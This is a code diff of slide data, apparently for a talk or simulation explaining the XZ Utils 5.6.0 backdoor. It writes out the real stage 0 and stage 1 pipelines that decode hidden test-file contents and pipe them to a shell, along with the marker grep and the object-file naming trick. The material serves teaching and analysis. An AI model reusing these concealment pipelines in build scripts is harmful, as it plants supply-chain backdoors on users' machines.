@@ -5,12 +5,21 @@
  * src/lib/simulation/link-targets.ts, in the 5.6.0 build whose numbers the text quotes); the text
  * itself is the speaker's: it goes to the speaker view.
  */
+import { BAD_XZ, CARRIER_DIR, GOOD_LARGE, MARKER_GREP, OBJECT_NAME, STAGE0_SWAP, TR_IDENTITY_SET, VERSION_CONSTANTS } from '../simulation/constants';
+import { count } from '../simulation/format';
+import { totalLength } from '../simulation/transforms/head-carve';
+import type { SimulationStep } from './slides';
 
 /** The build machine whose numbers the slides quote: 5.6.0, every other setting default. */
 const TARBALL_5_6_0 = { env: '5.6.0', machine: 'XZ Utils 5.6.0, release tarball' };
 /** The same machine building from a checkout of the git tag: Run ends with a clean library. */
 const GIT_5_6_0 = { env: '5.6.0,git', machine: 'XZ Utils 5.6.0, built from the git tag' };
-import type { SimulationStep } from './slides';
+
+// The numbers come from the simulation's constants, so the slides and the live build agree.
+const V560 = VERSION_CONSTANTS['5.6.0'];
+const V561 = VERSION_CONSTANTS['5.6.1'];
+const kept = totalLength(V560.carve.segments, 'keep');
+const dropped = V560.tailPlus - 1;
 
 export const SIMULATION_STEPS: readonly SimulationStep[] = [
   {
@@ -18,14 +27,14 @@ export const SIMULATION_STEPS: readonly SimulationStep[] = [
     ...TARBALL_5_6_0,
     title: 'Stage 0: configure unscrambles a “corrupt” test file',
     when: 'At the end of ./configure, from the release tarball',
-    command: 'cat tests/files/bad-3-corrupt_lzma2.xz | tr "\\t \\-_" " \\t_\\-" | xz -d | $SHELL',
+    command: `cat ${CARRIER_DIR}/${BAD_XZ} | tr "${STAGE0_SWAP.set1}" "${STAGE0_SWAP.set2}" | xz -d | $SHELL`,
     points: [
-      'The doctored m4/build-to-host.m4 greps the whole source tree for a line like ####Hello####: only bad-3-corrupt_lzma2.xz matches.',
+      `The doctored m4/build-to-host.m4 greps the whole source tree for a line like ####Hello####: only ${BAD_XZ} matches.`,
       'tr swaps TAB↔SPACE and -↔_, which turns the “corrupt” file into three valid xz streams.',
       'xz -d prints ####Hello####, the stage 1 script and ####World####; configure pipes it to the shell.',
     ],
     notes: [
-      'The grep is grep -aErls "#{4}[[:alnum:]]{5}#{4}$" $srcdir/, disguised as a search for Automake macros.',
+      `The grep is ${MARKER_GREP}, disguised as a search for Automake macros.`,
       'In the generated configure the command hides behind sed "r\\n", a disguised cat, and its errors go to /dev/null.',
     ],
   },
@@ -34,16 +43,15 @@ export const SIMULATION_STEPS: readonly SimulationStep[] = [
     ...TARBALL_5_6_0,
     title: 'Stage 1: carve a hidden stream out of a second test file',
     when: 'Still at the end of ./configure',
-    command:
-      'xz -dc good-large_compressed.lzma | eval $i | tail -c +31265 | tr "\\5-\\51\\204-\\377\\52-\\115\\132-\\203\\0-\\4\\116-\\131" "\\0-\\377" | xz -F raw --lzma1 -dc | /bin/sh',
+    command: `xz -dc ${GOOD_LARGE} | eval $i | tail -c +${V560.tailPlus} | tr "${V560.trKey}" "${TR_IDENTITY_SET}" | xz -F raw --lzma1 -dc | /bin/sh`,
     points: [
-      '$i is a chain of head commands: skip 1,024 bytes, keep 2,048, sixteen times, then skip 1,024 and keep 724 (939 in 5.6.1).',
-      'tail -c +31265 drops the first 31,264 of the 33,492 kept bytes, leaving 2,228.',
+      `$i is a chain of head commands: skip ${count(V560.carve.skipLength)} bytes, keep ${count(V560.carve.keepLength)}, sixteen times, then skip ${count(V560.carve.skipLength)} and keep ${V560.carve.lastKeep} (${V561.carve.lastKeep} in 5.6.1).`,
+      `tail -c +${V560.tailPlus} drops the first ${count(dropped)} of the ${count(kept)} kept bytes, leaving ${count(kept - dropped)}.`,
       'A tr substitution key maps all 256 byte values; the result is a raw LZMA1 stream that decodes to stage 2.',
     ],
     notes: [
       'The decompressed “large” file alternates 2 KiB of high-entropy data with 1 KiB filler regions that the skips remove.',
-      '5.6.1 adds five copies of a uname check for Linux and uses tail -c +31233 and a different tr key.',
+      `5.6.1 adds five copies of a uname check for Linux and uses tail -c +${V561.tailPlus} and a different tr key.`,
     ],
   },
   {
@@ -68,17 +76,16 @@ export const SIMULATION_STEPS: readonly SimulationStep[] = [
     ...TARBALL_5_6_0,
     title: 'At make time: an object file is linked into liblzma',
     when: 'During make, just before liblzma is linked',
-    command:
-      'xz -dc good-large_compressed.lzma | eval $i | … | LC_ALL=C awk \'…\' | xz -dc --single-stream | … > liblzma_la-crc64-fast.o',
+    command: `xz -dc ${GOOD_LARGE} | eval $i | … | LC_ALL=C awk '…' | xz -dc --single-stream | … > ${OBJECT_NAME}`,
     points: [
       'The hijacked link line re-runs stages 0, 1 and 2 inside src/liblzma.',
-      'An RC4-like cipher with no secret key decrypts an x86-64 object file: 88,792 bytes in 5.6.0, 88,664 in 5.6.1.',
+      `An RC4-like cipher with no secret key decrypts an x86-64 object file: ${count(V560.objectBytes)} bytes in 5.6.0, ${count(V561.objectBytes)} in 5.6.1.`,
       'crc64_fast.c is recompiled so its ifunc resolver calls the backdoor, and merged with that object.',
       'The extracted files are deleted; liblzma.so.5 carries the backdoor and the source tree shows nothing.',
     ],
     notes: [
       'The cipher’s table starts as c[i] = (7i + 5) mod 256 and each byte is added, not XORed, to the key stream.',
-      'The decrypted object is saved as liblzma_la-crc64-fast.o: a hyphen where the real CRC object’s name has an underscore.',
+      `The decrypted object is saved as ${OBJECT_NAME}: a hyphen where the real CRC object’s name has an underscore.`,
     ],
   },
   {
